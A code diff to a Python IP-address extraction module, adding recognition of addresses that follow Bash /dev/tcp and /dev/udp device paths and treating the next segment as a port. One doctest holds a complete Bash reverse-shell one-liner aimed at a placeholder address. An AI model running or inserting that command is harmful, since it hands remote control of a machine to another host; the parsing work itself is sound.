@@ -62,10 +62,15 @@ _AFTER_BACKSLASHES = "|".join(rf"(?<=\\{{{count}}})(?<![^{_BEFORE_BACKSLASHES}]\
 """The place of the host in a path of Windows, `\\\\192.0.2.1\\b`, also with escaped backslashes, but not of the name of
 a version in one: `C:\\\\4.0.0.0`."""
 
-_STARTS_NUMBERS = rf"(?:(?<![{NOT_AFTER}])|(?<=[@{UNSPACED_LETTERS}])|(?<=\\[nrt])|{_AFTER_BACKSLASHES})"
+_DEVICES = ("/dev/tcp/", "/dev/udp/")
+_AFTER_DEVICE = "|".join(f"(?<={device})" for device in _DEVICES)
+_STARTS_NUMBERS = (
+    rf"(?:(?<![{NOT_AFTER}])|(?<=[@{UNSPACED_LETTERS}])|(?<=\\[nrt])|{_AFTER_BACKSLASHES}|{_AFTER_DEVICE})"
+)
 FOUR_NUMBERS = rf"{_STARTS_NUMBERS}(?:0\.0\.0\.0|(?!0\.){_NUMBER}(?:\.{_NUMBER}){{3}})"
 r"""The first of the four numbers is 0 only in 0.0.0.0 (RFC 6890, 2.2.2). The escape of a line end or tab may precede
-it, as in the strings of source code, `192.0.2.1\n192.0.2.2`, and so may a user: `ssh root@192.0.2.1`."""
+it, as in the strings of source code, `192.0.2.1\n192.0.2.2`, and so may a user: `ssh root@192.0.2.1`, or
+the name of a device: `/dev/tcp/192.0.2.1/443`."""
 
 _FOUR_NUMBERS = lazy_pattern(FOUR_NUMBERS)
 _NO_ADDRESS_AFTER = lazy_pattern(rf"[{NOT_AFTER}\[]")
@@ -117,7 +122,8 @@ def address_at(source: ScannedText, start: int, scheme: str) -> Candidate | Skip
     end = host(state, start)
     if end < 0:
         return None
-    return name_up_to(state, read_after_host(state, port_after_hash(state, prefix_length(state, end))), "ip", scheme)
+    end = port_after_hash(state, prefix_length(state, port_of_device(state, end)))
+    return name_up_to(state, read_after_host(state, end), "ip", scheme)
 
 
 def bare_ipv6(source: ScannedText, colon: int) -> Iterator[Candidate]:
@@ -216,3 +222,14 @@ def port_after_hash(state: ScanState, end: int) -> int:
     ['http://192.0.2.1', 'http://192.0.2.1', 'http://192.0.2.1/b#53']
     """
     return state.end(port_after_hash, end) if _PORT_AFTER_HASH.match(state.text, end) else end
+
+
+@rule
+def port_of_device(state: ScanState, end: int) -> int:
+    """What follows an IP address in the name of a device of Bash is a port (Bash Reference Manual, 3.6).
+
+    >>> found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", kinds={"ip"})
+    ['http://192.0.2.1']
+    """
+    is_device = state.text.startswith("/", end) and state.text.endswith(_DEVICES, 0, state.start)
+    return state.end(port_of_device, end) if is_device else end
